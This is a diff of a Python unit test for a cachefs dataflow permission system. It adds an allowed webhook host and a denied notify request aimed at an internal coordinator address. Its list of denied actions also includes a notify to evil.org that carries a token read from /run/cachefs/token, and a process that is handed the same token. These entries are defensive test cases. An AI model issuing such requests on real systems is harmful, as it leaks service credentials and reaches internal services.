@@ -9,7 +9,7 @@ from cachefs.errors import NotAllowedError
 from cachefs.testing.memory.cache import MemoryCache
 from tests.unit.dataflow.steps.contexts import Steps
 
-TENANTS = Tenants(("cachefs",), ("team=s3://team-*",))
+TENANTS = Tenants(("cachefs",), ("team=s3://team-*", "*=https://hooks.example.org/*"))
 DONE = Observed(done=True)
 
 
@@ -63,6 +63,7 @@ DENIED = [
     ("backup", {"dataset": "llama", "to": "s3://others/y"}),
     ("scale", {"pool": "default", "workers": 0}),
     ("notify", {"url": "env:HOOK"}),
+    ("notify", {"url": "http://cachefs-coordinator.cachefs:7070/v1/datasets"}),
     ("notify", {"url": "https://evil.org", "secret_headers": {"X": "file:/run/cachefs/token"}}),
     ("process", {"command": ["true"], "secrets": {"A": "file:/run/cachefs/token"}}),
     (
